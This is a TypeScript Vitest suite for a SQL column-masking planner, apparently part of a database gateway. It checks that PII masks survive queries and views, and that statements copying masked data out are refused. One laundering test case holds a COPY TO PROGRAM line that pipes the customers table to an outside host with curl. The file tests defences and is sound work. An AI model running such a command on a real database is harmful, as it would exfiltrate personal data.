import { beforeAll, describe, expect, it } from 'vitest';
import { Catalog, type CatalogRelation } from '../../../src/masking/catalog.js';
import { maskedRelationColumns, planStatements, type LineageContext } from '../../../src/masking/lineage.js';
import type { ColumnMask, ColumnMaskLookup, OutputMask, StatementMaskPlan } from '../../../src/masking/plan.js';
import { loadSqlParser } from '../../../src/inspect/sql/parser.js';

const INT4 = 23;
const TEXT = 25;
const NUMERIC = 1700;

const EMAIL_MASK: ColumnMask = { strategy: 'redact', label: 'EMAIL', rule: 'masking profile "pii", column rule "public.customers.email"' };
const CARD_MASK: ColumnMask = { strategy: 'partial', label: 'CARD', rule: 'masking profile "pii", column rule "public.customers.card"' };
const SSN_MASK: ColumnMask = { strategy: 'hash', label: 'SSN', rule: 'masking profile "pii", column rule "public.customers.ssn"' };
const HASH_MASK: ColumnMask = { strategy: 'null', label: 'MASKED', rule: 'masking profile "pii", column rule "public.customers.password_hash"' };
const GLOB_MASK: ColumnMask = { strategy: 'null', label: 'MASKED', rule: 'masking profile "pii", column rule "*.*.*password*"' };

const RULES: Record<string, ColumnMask> = {
  'public.customers.email': EMAIL_MASK,
  'public.customers.card': CARD_MASK,
  'public.customers.ssn': SSN_MASK,
  'public.customers.password_hash': HASH_MASK,
  'crm.leads.phone': EMAIL_MASK,
};
const columnMask: ColumnMaskLookup = (schema, table, column) =>
  RULES[`${schema}.${table}.${column}`] ?? (column.includes('password') ? GLOB_MASK : undefined);

const E = 'public.customers.email';
const C = 'public.customers.card';
const S = 'public.customers.ssn';
const P = 'public.customers.password_hash';

function columns(...specs: [string, number][]): CatalogRelation['columns'] {
  return specs.map(([name, typeOid], i) => ({ name, typeOid, attnum: i + 1 }));
}

function view(
  oid: number,
  name: string,
  cols: CatalogRelation['columns'],
  definition: string,
  kind: CatalogRelation['kind'] = 'view',
): CatalogRelation {
  return { oid, schema: 'public', name, kind, columns: cols, definition };
}

const ORDERS = columns(['id', INT4], ['customer_id', INT4], ['total', NUMERIC], ['note', TEXT]);
const CUSTOMERS = columns(['id', INT4], ['name', TEXT], ['email', TEXT], ['card', TEXT], ['ssn', TEXT], ['password_hash', TEXT]);

const catalog = new Catalog(
  [
    { oid: 1000, schema: 'public', name: 'customers', kind: 'table', columns: CUSTOMERS },
    { oid: 1001, schema: 'public', name: 'orders', kind: 'table', columns: ORDERS },
    view(1002, 'customer_contacts', columns(['id', INT4], ['contact', TEXT]), ' SELECT id,\n    lower(email) AS contact\n   FROM customers;'),
    view(1003, 'contact_summary', columns(['contact', TEXT], ['id', INT4]), ' SELECT contact,\n    id\n   FROM customer_contacts;'),
    view(1004, 'customer_emails', columns(['id', INT4], ['email', TEXT]), ' SELECT customers.id, customers.email FROM public.customers;'),
    view(1005, 'cards', columns(['card', TEXT]), ' SELECT card FROM customers;', 'materialized-view'),
    view(1006, 'loop_a', columns(['x', TEXT]), ' SELECT x FROM loop_b;'),
    view(1007, 'loop_b', columns(['x', TEXT]), ' SELECT x FROM loop_a;'),
    view(1008, 'broken', columns(['x', TEXT]), ' SELEC x FROM customers;'),
    view(1009, 'logins', columns(['id', INT4], ['password_reset', TEXT]), " SELECT id, 'x'::text AS password_reset FROM orders;"),
    { oid: 2000, schema: 'crm', name: 'customers', kind: 'table', columns: columns(['id', INT4], ['email', TEXT]) },
  ],
  'agent',
);

const BASE: LineageContext = { catalog, searchPath: ['$user', 'public'], columnMask, denyPredicates: false, onDerived: 'mask' };

function plans(sql: string, options: Partial<LineageContext> = {}): StatementMaskPlan[] {
  return planStatements(sql, { ...BASE, ...options });
}

function plan(sql: string, options: Partial<LineageContext> = {}): StatementMaskPlan {
  const all = plans(sql, options);
  expect(all).toHaveLength(1);
  return all[0] as StatementMaskPlan;
}

/** `-` unmasked, `source` a plain reference, `~source` derived. */
function show(flow: OutputMask | undefined): string {
  if (flow === undefined) return '-';
  return `${flow.derived ? '~' : ''}${flow.source}`;
}

function outputs(sql: string, options: Partial<LineageContext> = {}): string[] | undefined {
  const p = plan(sql, options);
  expect(p.refusal).toBeUndefined();
  return p.outputs?.map(show);
}

function refusal(sql: string, options: Partial<LineageContext> = {}): string {
  const p = plan(sql, options);
  expect(p.refusal, sql).toBeDefined();
  return p.refusal?.reason ?? '';
}

const STRICT: Partial<LineageContext> = { denyPredicates: true };
const REFUSE: Partial<LineageContext> = { onDerived: 'refuse' };

beforeAll(async () => {
  await loadSqlParser();
});

describe('output columns of a SELECT', () => {
  it('gives each plain column its own mask, unchanged and not derived', () => {
    const p = plan('SELECT id, email, card, ssn, password_hash FROM customers');
    expect(p.returnsRows).toBe(true);
    expect(p.outputs).toEqual([
      undefined,
      { mask: EMAIL_MASK, derived: false, source: E },
      { mask: CARD_MASK, derived: false, source: C },
      { mask: SSN_MASK, derived: false, source: S },
      { mask: HASH_MASK, derived: false, source: P },
    ]);
  });

  it('keeps the mask through a rename and table aliases', () => {
    expect(outputs('SELECT c.email AS e, x.card AS "Card" FROM customers c, customers x')).toEqual([E, C]);
  });

  it('resolves schema-qualified references', () => {
    expect(outputs('SELECT public.customers.email, customers.ssn FROM public.customers')).toEqual([E, S]);
  });

  it('expands * through the catalog, in column order', () => {
    expect(outputs('SELECT * FROM customers')).toEqual(['-', '-', E, C, S, P]);
  });

  it('expands t.* of one FROM item among several', () => {
    expect(outputs('SELECT o.id, c.* FROM orders o JOIN customers c ON c.id = o.customer_id')).toEqual(['-', '-', '-', E, C, S, P]);
  });

  it('expands (c).* of a whole-row reference', () => {
    expect(outputs('SELECT (c).* FROM customers c')).toEqual(['-', '-', E, C, S, P]);
  });

  it('treats a field of a whole-row reference as that column', () => {
    expect(outputs('SELECT (c).email, (c).id FROM customers c')).toEqual([E, '-']);
  });

  it('follows the search path, and a literal SET search_path for later statements of the text', () => {
    expect(outputs('SELECT email FROM customers', { searchPath: ['crm', 'public'] })).toEqual(['-']);
    const [set, select] = plans('SET search_path TO crm; SELECT email FROM customers');
    expect(set?.returnsRows).toBe(false);
    expect(select?.outputs?.map(show)).toEqual(['-']);
    expect(outputs('SELECT email FROM customers')).toEqual([E]);
  });

  it('reads TABLE t as SELECT * FROM t', () => {
    expect(outputs('TABLE customers')).toEqual(['-', '-', E, C, S, P]);
  });
});

describe('through subqueries, CTEs, set operations and joins', () => {
  it('follows a subquery in FROM with a column alias list', () => {
    expect(outputs('SELECT b, a FROM (SELECT id, email FROM customers) AS s(a, b)')).toEqual([E, '-']);
  });

  it('follows a LATERAL subquery', () => {
    expect(
      outputs('SELECT o.id, l.e FROM orders o, LATERAL (SELECT email AS e FROM customers c WHERE c.id = o.customer_id) l'),
    ).toEqual(['-', E]);
  });

  it('follows a scalar subquery in the target list', () => {
    expect(outputs('SELECT id, (SELECT ssn FROM customers c WHERE c.id = o.customer_id) FROM orders o')).toEqual(['-', S]);
  });

  it('follows a CTE, with and without a column list', () => {
    expect(outputs('WITH x AS (SELECT email AS e FROM customers) SELECT e FROM x')).toEqual([E]);
    expect(outputs('WITH x(a, b) AS (SELECT id, card FROM customers) SELECT b, a FROM x')).toEqual([C, '-']);
    expect(outputs('WITH x AS (SELECT id, lower(email) AS e FROM customers) SELECT e, id FROM x')).toEqual([`~${E}`, '-']);
  });

  it('sees an outer CTE from a nested query, and a CTE shadows a table of the same name', () => {
    expect(outputs('WITH orders AS (SELECT ssn AS note FROM customers) SELECT (SELECT note FROM orders LIMIT 1)')).toEqual([S]);
  });

  it('iterates WITH RECURSIVE until masks settle (a mask reaching a column only through the recursion)', () => {
    const sql =
      'WITH RECURSIVE r(n, a, b) AS (SELECT 1, email, name FROM customers UNION ALL SELECT n + 1, b, a FROM r WHERE n < 3) SELECT b FROM r';
    expect(outputs(sql)).toEqual([E]);
  });

  it('masks the SEARCH and CYCLE columns of a recursive CTE computed from masked columns', () => {
    const sql =
      'WITH RECURSIVE r(e) AS (SELECT email FROM customers UNION SELECT e FROM r) CYCLE e SET seen USING path SELECT seen, path FROM r';
    expect(outputs(sql)).toEqual([`~${E}`, `~${E}`]);
  });

  it('masks output i of a set operation when any branch masks it', () => {
    expect(outputs('SELECT id, name FROM customers UNION SELECT id, email FROM customers')).toEqual(['-', E]);
    expect(outputs('SELECT name FROM customers INTERSECT SELECT lower(card) FROM customers')).toEqual([`~${C}`]);
    expect(outputs('SELECT ssn FROM customers EXCEPT SELECT note FROM orders')).toEqual([S]);
  });

  it('masks VALUES rows by position', () => {
    expect(outputs('VALUES (1, 2)')).toEqual(['-', '-']);
    expect(outputs('SELECT v.b FROM customers c, LATERAL (VALUES (1, c.card), (2, NULL)) v(a, b)')).toEqual([C]);
  });

  it('merges JOIN … USING columns (listed once, first) and NATURAL JOIN columns', () => {
    expect(outputs('SELECT * FROM customers a JOIN customers b USING (email)')).toEqual([
      E, '-', '-', C, S, P, '-', '-', C, S, P,
    ]);
    expect(outputs('SELECT * FROM customers NATURAL JOIN customer_emails')).toEqual(['-', E, '-', C, S, P]);
    expect(outputs('SELECT u.email FROM customers a JOIN orders b ON true JOIN customers c USING (email) AS u')).toEqual([E]);
  });

  it('hides the members of an aliased join', () => {
    expect(outputs('SELECT j.* FROM (customers a JOIN orders b ON a.id = b.customer_id) AS j')).toEqual([
      '-', '-', E, C, S, P, '-', '-', '-', '-',
    ]);
  });
});

describe('views', () => {
  it('masks a view column computed from a masked column, as derived', () => {
    expect(outputs('SELECT * FROM customer_contacts')).toEqual(['-', `~${E}`]);
  });

  it('follows views over views', () => {
    expect(outputs('SELECT contact FROM contact_summary')).toEqual([`~${E}`]);
  });

  it('keeps a plain view column plain, and masks materialized views the same way', () => {
    expect(outputs('SELECT email FROM customer_emails')).toEqual([E]);
    expect(outputs('SELECT card FROM cards')).toEqual([C]);
  });

  it('applies column rules that name a view column (a glob)', () => {
    expect(outputs('SELECT password_reset FROM logins')).toEqual(['public.logins.password_reset']);
  });

  it('masks every column of a view whose definition cannot be analysed, and says why', () => {
    const [loop] = plan('SELECT x FROM loop_a').outputs ?? [];
    expect(loop?.derived).toBe(true);
    expect(loop?.mask.rule).toMatch(/every column of public\.loop_\w is masked because its definition refers to itself/);
    const [broken] = plan('SELECT x FROM broken').outputs ?? [];
    expect(broken?.mask.rule).toMatch(/every column of public\.broken is masked because its definition could not be parsed/);
  });
});

describe('expressions over masked columns', () => {
  it.each([
    ['lower(email)', `~${E}`],
    ["substr(ssn, 1, 5) || substr(ssn, 6)", `~${S}`],
    ["encode(convert_to(email, 'UTF8'), 'base64')", `~${E}`],
    ['email::varchar(200)', `~${E}`],
    ['CAST(card AS text)', `~${C}`],
    ["CASE WHEN id > 1 THEN email ELSE 'none' END", `~${E}`],
    ["CASE WHEN email LIKE 'a%' THEN 1 ELSE 0 END", `~${E}`],
    ["COALESCE(ssn, '')", `~${S}`],
    ['GREATEST(email, name)', `~${E}`],
    ["email || ''", `~${E}`],
    ['email IS NULL', `~${E}`],
    ["string_agg(email, ',')", `~${E}`],
    ['array_agg(card)', `~${C}`],
    ['json_agg(ssn)', `~${S}`],
    ["json_build_object('e', email)", `~${E}`],
    ['row_to_json(c)', `~${P}`],
    ['to_jsonb(c.*)', `~${P}`],
    ['c', `~${P}`],
    ['ROW(id, card)', `~${C}`],
    ['ARRAY[email]', `~${E}`],
    ['(array_agg(email))[1]', `~${E}`],
    ['first_value(card) OVER (ORDER BY id)', `~${C}`],
    ['row_number() OVER (ORDER BY ssn)', `~${S}`],
    ["max(id) FILTER (WHERE email LIKE 'a%')", `~${E}`],
    ["string_agg(name, ',' ORDER BY card)", `~${C}`],
    ['sum(length(email))', `~${E}`],
    ['ARRAY(SELECT email FROM customers)', `~${E}`],
    ["'x' = ANY (SELECT ssn FROM customers)", `~${S}`],
    ["xmlelement(name e, email)", `~${E}`],
    ["c.email COLLATE \"C\"", E],
  ])('%s carries %s', (expression, expected) => {
    expect(outputs(`SELECT ${expression} FROM customers c GROUP BY c.id`)).toEqual([expected]);
  });

  it('chooses the most restrictive mask when several flow in (null > redact > hash > partial)', () => {
    const mask = (e: string): string | undefined => plan(`SELECT ${e} FROM customers`).outputs?.[0]?.mask.strategy;
    expect(mask('concat(card, ssn)')).toBe('hash');
    expect(mask('concat(card, ssn, email)')).toBe('redact');
    expect(mask('concat(card, email, password_hash, ssn)')).toBe('null');
    expect(plan('SELECT concat(ssn, card) FROM customers').outputs?.[0]?.source).toBe(S);
  });

  it('masks what table functions return when their arguments are masked', () => {
    expect(outputs('SELECT u FROM customers c, unnest(ARRAY[c.email]) u')).toEqual([`~${E}`]);
    expect(outputs('SELECT x FROM customers c, XMLTABLE(\'/a\' PASSING xmlparse(document c.ssn) COLUMNS x text PATH \'.\')')).toEqual([`~${S}`]);
    expect(outputs("SELECT t.a FROM customers c, json_to_record(json_build_object('a', c.card)) AS t(a text)")).toEqual([`~${C}`]);
  });

  it('leaves outputs of table functions of unmasked arguments unmasked', () => {
    expect(outputs('SELECT g FROM generate_series(1, 3) g')).toEqual(['-']);
    expect(outputs('SELECT * FROM generate_series(1, 3)')).toBeUndefined();
  });

  it('reveals no value through count(…) and EXISTS', () => {
    expect(outputs('SELECT count(email), count(*), count(DISTINCT ssn) FROM customers')).toEqual(['-', '-', '-']);
    expect(outputs('SELECT EXISTS (SELECT email FROM customers)')).toEqual(['-']);
  });

  it('treats attribute notation on a whole row as a function of the row', () => {
    expect(outputs('SELECT c.some_function FROM customers c')).toEqual([`~${P}`]);
  });
});

describe('onDerived: refuse', () => {
  it('refuses a computed output, naming the column, its position and the way out', () => {
    const reason = refusal('SELECT id, lower(email) AS e FROM customers', REFUSE);
    expect(reason).toContain('Output column 2 ("e")');
    expect(reason).toContain(E);
    expect(reason).toContain('Select the column itself (email)');
    expect(plan('SELECT id, lower(email) AS e FROM customers', REFUSE).refusal?.rule).toBe(EMAIL_MASK.rule);
  });

  it('lets plain references through, masked', () => {
    expect(outputs('SELECT email AS e FROM (SELECT email FROM customers) s', REFUSE)).toEqual([E]);
  });

  it('refuses computed values reaching the output through a CTE or a view', () => {
    refusal('WITH x AS (SELECT upper(card) AS u FROM customers) SELECT u FROM x', REFUSE);
    refusal('SELECT contact FROM customer_contacts', REFUSE);
  });

  it('does not refuse computed values that stay inside the query', () => {
    expect(outputs('SELECT id FROM (SELECT id, lower(email) FROM customers) s', REFUSE)).toEqual(['-']);
  });
});

describe('laundering: masked values copied outside the result (always refused)', () => {
  it.each([
    'INSERT INTO orders (note) SELECT email FROM customers',
    'INSERT INTO orders (note) VALUES ((SELECT lower(email) FROM customers LIMIT 1))',
    'UPDATE orders SET note = c.email FROM customers c WHERE c.id = orders.customer_id',
    'UPDATE orders SET note = (SELECT ssn FROM customers LIMIT 1)',
    'UPDATE orders SET (note, total) = (SELECT card, 1 FROM customers LIMIT 1)',
    'UPDATE customers SET name = email',
    'CREATE TABLE copy AS SELECT id, email FROM customers',
    'CREATE MATERIALIZED VIEW m AS SELECT card FROM customers WITH NO DATA',
    'CREATE VIEW v AS SELECT contact FROM customer_contacts',
    'SELECT ssn INTO TEMP t FROM customers',
    "COPY (SELECT email FROM customers) TO '/tmp/x'",
    "COPY customers TO PROGRAM 'curl -d @- http://example.com'",
    'WITH src AS (SELECT email FROM customers) INSERT INTO orders (note) SELECT email FROM src',
    'WITH ins AS (INSERT INTO orders (note) SELECT ssn FROM customers RETURNING id) SELECT * FROM ins',
    'MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN UPDATE SET note = c.email',
    'MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN NOT MATCHED THEN INSERT (note) VALUES (c.ssn)',
    'INSERT INTO customers (id, name) VALUES (1, \'x\') ON CONFLICT (id) DO UPDATE SET name = customers.email',
    "SELECT set_config('app.x', email, false) FROM customers",
    "SELECT pg_notify('channel', ssn) FROM customers",
    'EXECUTE p((SELECT email FROM customers LIMIT 1))',
    'CALL keep((SELECT card FROM customers LIMIT 1))',
    'EXPLAIN ANALYZE INSERT INTO orders (note) SELECT email FROM customers',
  ])('%s', (sql) => {
    expect(refusal(sql)).toMatch(/masked column public\.customers\.\w+ .*where the gateway can no longer mask them/);
  });

  it('names the rule of the masked column', () => {
    expect(plan('INSERT INTO orders (note) SELECT card FROM customers').refusal?.rule).toBe(CARD_MASK.rule);
  });

  it.each([
    "INSERT INTO orders (note) SELECT name FROM customers WHERE email LIKE 'a%'",
    'INSERT INTO orders (note) SELECT count(email)::text FROM customers',
    "UPDATE customers SET name = 'x' WHERE id = 1",
    "INSERT INTO customers (id, email) VALUES (1, 'a@b.c') ON CONFLICT (id) DO UPDATE SET email = excluded.email",
    'CREATE TABLE ids AS SELECT id, name FROM customers',
    "COPY customers (id, name) TO '/tmp/x'",
    'DELETE FROM customers WHERE id = 1',
    "SELECT set_config('app.x', name, false) FROM customers",
  ])('allows %s', (sql) => {
    expect(plan(sql).refusal).toBeUndefined();
  });

  it('treats RETURNING of masked columns as an output, masked', () => {
    const p = plan("INSERT INTO customers (id, email) VALUES (1, 'a@b.c') RETURNING id, email");
    expect(p.returnsRows).toBe(true);
    expect(p.refusal).toBeUndefined();
    expect(p.outputs?.map(show)).toEqual(['-', E]);
    expect(outputs('WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING email) SELECT * FROM d')).toEqual([E]);
    expect(outputs('UPDATE orders o SET note = \'x\' FROM customers c WHERE c.id = o.customer_id RETURNING *')).toEqual([
      '-', '-', '-', '-', '-', '-', E, C, S, P,
    ]);
    expect(outputs("UPDATE customers SET name = 'x' RETURNING old.ssn, new.name")).toEqual([S, '-']);
  });

  it('is refused whatever denyPredicates says', () => {
    expect(plan('INSERT INTO orders (note) SELECT email FROM customers', { denyPredicates: false }).refusal).toBeDefined();
  });
});

describe('code and statements the analysis cannot follow', () => {
  it('refuses a DO block that mentions a masked column or a relation with one', () => {
    expect(refusal('DO $$ BEGIN INSERT INTO orders (note) SELECT email FROM customers; END $$')).toContain('"email"');
    expect(refusal('DO $$ BEGIN PERFORM row_to_json(c) FROM Customers c; END $$')).toContain('"customers"');
    expect(plan("DO $$ BEGIN UPDATE orders SET note = 'done'; END $$").refusal).toBeUndefined();
  });

  it('refuses a function or procedure whose body mentions a masked column', () => {
    expect(refusal("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT ssn FROM t'")).toContain('"ssn"');
    const procedure = 'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC INSERT INTO orders (note) SELECT card FROM x; END';
    expect(refusal(procedure)).toContain('The procedure');
    expect(plan('CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END').refusal).toBeUndefined();
  });

  it('refuses other statements that would rename or re-home masked data', () => {
    refusal('ALTER TABLE customers RENAME COLUMN email TO contact');
    refusal('ALTER TABLE customers RENAME TO clients');
    refusal('CREATE TABLE more_customers () INHERITS (customers)');
    refusal('ALTER TABLE orders ADD COLUMN e text GENERATED ALWAYS AS (note || password_hash) STORED');
    expect(plan('ALTER TABLE orders ADD COLUMN extra int').refusal).toBeUndefined();
    expect(plan('CREATE TABLE t (id int, email text)').refusal).toBeUndefined();
    expect(plan('TRUNCATE customers').refusal).toBeUndefined();
  });

  it('refuses SQL-level PREPARE and DECLARE CURSOR of queries with masked outputs', () => {
    const prepare = refusal('PREPARE p AS SELECT id, email FROM customers');
    expect(prepare).toContain('extended query protocol');
    expect(prepare).toContain('EXECUTE p');
    expect(refusal('DECLARE c CURSOR FOR SELECT lower(ssn) FROM customers')).toContain('FETCH FROM c');
    const allowed = plan('PREPARE q AS SELECT id, name FROM customers');
    expect(allowed.refusal).toBeUndefined();
    expect(allowed.returnsRows).toBe(false);
  });

  it('refuses CREATE TABLE … AS EXECUTE (the prepared statement is not visible here)', () => {
    refusal('CREATE TABLE t AS EXECUTE q');
  });

  it('refuses built-in functions that run SQL text or read relations named at run time', () => {
    expect(refusal("SELECT query_to_xml('SELECT email FROM customers', true, false, '')")).toContain('query_to_xml(…) runs SQL');
    refusal("SELECT table_to_xml('orders', true, false, '')");
    refusal("SELECT * FROM ts_stat('SELECT to_tsvector(ssn) FROM customers')");
  });

  it('lets opaque code and query runners through when the policy masks nothing', () => {
    // Views whose definitions cannot be analysed stay masked whatever the rules: leave them out.
    const analysable = new Catalog(catalog.relations.filter((r) => r.oid < 1006), 'agent');
    const unmasked: Partial<LineageContext> = { catalog: analysable, columnMask: () => undefined };
    for (const sql of [
      "SELECT query_to_xml('SELECT email FROM customers', true, false, '')",
      'DO $$ BEGIN PERFORM email FROM customers; END $$',
      'ALTER TABLE customers RENAME COLUMN email TO contact',
    ]) {
      expect(plan(sql, unmasked).refusal, sql).toBeUndefined();
    }
  });
});

describe('denyPredicates', () => {
  it.each([
    ["SELECT id FROM customers WHERE email = 'a@b.c'", 'WHERE', E],
    ['SELECT o.id FROM orders o JOIN customers c ON c.ssn = o.note', 'JOIN ON', S],
    ['SELECT a.id FROM customers a JOIN customers b USING (card)', 'JOIN USING', C],
    ['SELECT count(*) FROM customers GROUP BY email', 'GROUP BY', E],
    ['SELECT email, count(*) FROM customers GROUP BY 1', 'GROUP BY', E],
    ['SELECT count(*) FROM customers GROUP BY ROLLUP (ssn)', 'GROUP BY', S],
    ['SELECT name FROM customers GROUP BY name HAVING max(card) > \'4\'', 'HAVING', C],
    ['SELECT id FROM customers ORDER BY password_hash', 'ORDER BY', P],
    ['SELECT id, ssn FROM customers ORDER BY 2', 'ORDER BY', S],
    ['SELECT id, ssn AS s FROM customers ORDER BY s', 'ORDER BY', S],
    ['SELECT id FROM customers UNION SELECT length(email) FROM customers ORDER BY 1', 'ORDER BY', E],
    ['SELECT DISTINCT ON (email) id FROM customers', 'DISTINCT ON', E],
    ['SELECT row_number() OVER (PARTITION BY card) FROM customers', 'window PARTITION BY', C],
    ['SELECT rank() OVER w FROM customers WINDOW w AS (ORDER BY ssn)', 'window ORDER BY', S],
    ["SELECT count(*) FILTER (WHERE email LIKE 'a%') FROM customers", 'FILTER', E],
    ['SELECT id FROM customers LIMIT (SELECT length(ssn) FROM customers LIMIT 1)', 'LIMIT', S],
    ["SELECT * FROM (SELECT id FROM customers WHERE card LIKE '4%') s", 'WHERE', C],
    ['SELECT id FROM orders o WHERE customer_id IN (SELECT id FROM customers WHERE ssn > \'5\')', 'WHERE', S],
    ['SELECT id FROM orders WHERE note IN (SELECT email FROM customers)', 'WHERE', E],
    ["WITH x AS (SELECT email AS e FROM customers) SELECT 1 FROM x WHERE e = 'a'", 'WHERE', E],
    ["UPDATE customers SET name = 'x' WHERE email = 'a@b.c'", 'WHERE', E],
    ["DELETE FROM customers WHERE ssn LIKE '1%'", 'WHERE', S],
    ["SELECT contact FROM customer_contacts WHERE contact LIKE 'a%'", 'WHERE', E],
    ['SELECT id FROM customers c WHERE EXISTS (SELECT 1 FROM generate_series(1, length(c.ssn) - 10))', 'WHERE', S],
  ])('%s is refused (%s)', (sql, clause, source) => {
    const reason = refusal(sql, STRICT);
    expect(reason).toContain(`The ${clause} clause uses the masked column ${source}`);
    expect(reason).toContain('not allowed for this identity');
    expect(plan(sql).refusal).toBeUndefined();
  });

  it('allows predicates on unmasked columns, and EXISTS over a masked table', () => {
    expect(plan('SELECT email FROM customers WHERE id = 1 ORDER BY name', STRICT).refusal).toBeUndefined();
    const exists = 'SELECT id FROM orders o WHERE EXISTS (SELECT * FROM customers c WHERE c.id = o.customer_id)';
    expect(plan(exists, STRICT).refusal).toBeUndefined();
    expect(plan('SELECT count(*) FROM customers', STRICT).refusal).toBeUndefined();
  });
});

describe('COPY', () => {
  it('plans COPY t TO STDOUT with the text defaults and column types', () => {
    const p = plan('COPY customers TO STDOUT');
    expect(p.returnsRows).toBe(true);
    expect(p.outputs?.map(show)).toEqual(['-', '-', E, C, S, P]);
    expect(p.copy).toEqual({
      format: 'text',
      delimiter: '\t',
      nullString: '\\N',
      quote: '"',
      escape: '\\',
      header: false,
      typeOids: [INT4, TEXT, TEXT, TEXT, TEXT, TEXT],
    });
  });

  it('reads a column list and the legacy CSV options', () => {
    const p = plan("COPY customers (id, email) TO STDOUT WITH CSV HEADER DELIMITER ';' NULL 'NULL' QUOTE '''' FORCE QUOTE *");
    expect(p.outputs?.map(show)).toEqual(['-', E]);
    expect(p.copy).toEqual({ format: 'csv', delimiter: ';', nullString: 'NULL', quote: "'", escape: "'", header: true, typeOids: [INT4, TEXT] });
  });

  it('reads the new option syntax, with CSV defaults', () => {
    expect(plan('COPY orders TO STDOUT (FORMAT csv, HEADER false)').copy).toEqual({
      format: 'csv', delimiter: ',', nullString: '', quote: '"', escape: '"', header: false, typeOids: [INT4, INT4, NUMERIC, TEXT],
    });
    expect(plan("COPY orders TO STDOUT (FORMAT 'CSV', HEADER 1, ESCAPE '\\')").copy).toMatchObject({ header: true, escape: '\\' });
    expect(plan('COPY orders TO STDOUT (HEADER)').copy).toMatchObject({ format: 'text', header: true });
  });

  it('plans COPY (query) TO STDOUT: types only for plain columns', () => {
    const p = plan("COPY (SELECT id, lower(email) FROM customers) TO STDOUT (FORMAT csv, DELIMITER '|')");
    expect(p.outputs?.map(show)).toEqual(['-', `~${E}`]);
    expect(p.copy?.typeOids).toEqual([INT4, undefined]);
    expect(p.copy?.delimiter).toBe('|');
  });

  it('refuses binary COPY of masked columns only', () => {
    expect(refusal('COPY customers (id, ssn) TO STDOUT BINARY')).toContain('column 2 ("ssn")');
    expect(refusal('COPY (SELECT lower(email) FROM customers) TO STDOUT WITH (FORMAT binary)')).toContain('binary');
    expect(plan('COPY orders TO STDOUT (FORMAT binary)').copy?.format).toBe('binary');
    expect(plan('COPY orders TO STDOUT (FORMAT binary)').refusal).toBeUndefined();
  });

  it('does not send rows for COPY FROM', () => {
    const p = plan('COPY customers FROM STDIN');
    expect(p.returnsRows).toBe(false);
    expect(p.copy).toBeUndefined();
  });

  it('refuses a COPY whose options cannot be read', () => {
    refusal('COPY orders TO STDOUT (FORMAT xml)');
  });
});

describe('which statements return rows', () => {
  it.each([
    ['SHOW search_path', true],
    ['EXPLAIN SELECT * FROM customers', true],
    ['FETCH 10 FROM c', true],
    ['MOVE 10 IN c', false],
    ['EXECUTE p(1)', true],
    ['CALL p(1)', true],
    ['BEGIN', false],
    ["SET statement_timeout = '1s'", false],
    ['DELETE FROM orders', false],
    ['INSERT INTO orders (id) VALUES (1) RETURNING id', true],
    ['COPY orders TO STDOUT', true],
    ["COPY orders TO '/tmp/o'", false],
    ['CREATE TABLE t (id int)', false],
  ])('%s → %s', (sql, rows) => {
    const p = plan(sql);
    expect(p.returnsRows).toBe(rows);
    expect(p.refusal).toBeUndefined();
  });

  it('leaves the outputs of SHOW, EXPLAIN, FETCH, EXECUTE and CALL unknown', () => {
    for (const sql of ['SHOW search_path', 'EXPLAIN SELECT email FROM customers', 'FETCH 1 FROM c', 'EXECUTE p', 'CALL p()']) {
      expect(plan(sql).outputs, sql).toBeUndefined();
    }
  });

  it('does not refuse EXPLAIN of a computed output (no rows come back), but keeps its predicate refusals', () => {
    expect(plan('EXPLAIN SELECT lower(email) FROM customers', REFUSE).refusal).toBeUndefined();
    refusal("EXPLAIN ANALYZE SELECT id FROM customers WHERE ssn = '1'", STRICT);
  });

  it('plans each statement of a text, in order', () => {
    const all = plans('SELECT email FROM customers; UPDATE orders SET note = NULL; SELECT id, card FROM customers');
    expect(all.map((p) => p.returnsRows)).toEqual([true, false, true]);
    expect(all[2]?.outputs?.map(show)).toEqual(['-', C]);
  });

  it('refuses text that cannot be parsed, as one plan', () => {
    const all = plans('SELECT email FROM customers; SELEC 1');
    expect(all).toHaveLength(1);
    expect(all[0]?.refusal?.reason).toContain('could not be parsed');
  });

  it('plans an empty text as no statements', () => {
    expect(plans('')).toEqual([]);
  });
});

describe('relations outside the catalog', () => {
  it('applies column rules to the names the text uses, in every schema of the search path', () => {
    const [out] = plan('SELECT password FROM new_table', { searchPath: ['public'] }).outputs ?? [];
    expect(out).toEqual({ mask: GLOB_MASK, derived: false, source: 'public.new_table.password' });
    expect(outputs('SELECT phone FROM leads', { searchPath: ['public', 'crm'] })).toEqual(['crm.leads.phone']);
    expect(outputs('SELECT phone FROM leads', { searchPath: ['public'] })).toEqual(['-']);
    expect(outputs('SELECT n.password FROM other.new_table n')).toEqual(['other.new_table.password']);
    expect(outputs('SELECT lower(password) FROM new_table', { searchPath: ['public'] })).toEqual(['~public.new_table.password']);
  });

  it('leaves * of an unknown relation unknown', () => {
    expect(outputs('SELECT * FROM new_table')).toBeUndefined();
    expect(outputs('SELECT c.email, n.* FROM customers c, new_table n')).toBeUndefined();
  });

  it('refuses unknown positions when a computed masked value shares the result', () => {
    expect(refusal('SELECT lower(c.email), n.* FROM customers c, new_table n')).toContain('new_table');
    expect(refusal('SELECT * FROM customers c, LATERAL unnest(ARRAY[c.email]) u')).toContain('the function unnest');
  });
});

describe('maskedRelationColumns', () => {
  let masks: ReturnType<typeof maskedRelationColumns>;
  beforeAll(() => {
    masks = maskedRelationColumns(catalog, columnMask);
  });

  it('maps base table columns by OID and attnum', () => {
    expect([...(masks.get(1000)?.entries() ?? [])].map(([attnum, m]) => [attnum, show(m)])).toEqual([
      [3, E],
      [4, C],
      [5, S],
      [6, P],
    ]);
    expect(masks.get(1001)).toBeUndefined();
    expect(masks.get(2000)).toBeUndefined();
  });

  it('maps view columns through their definitions, recursively', () => {
    expect(show(masks.get(1002)?.get(2))).toBe(`~${E}`);
    expect(masks.get(1002)?.has(1)).toBe(false);
    expect(show(masks.get(1003)?.get(1))).toBe(`~${E}`);
    expect(show(masks.get(1004)?.get(2))).toBe(E);
    expect(show(masks.get(1005)?.get(1))).toBe(C);
    expect(masks.get(1009)?.get(2)?.mask).toBe(GLOB_MASK);
  });

  it('masks every column of cyclic and unparseable views', () => {
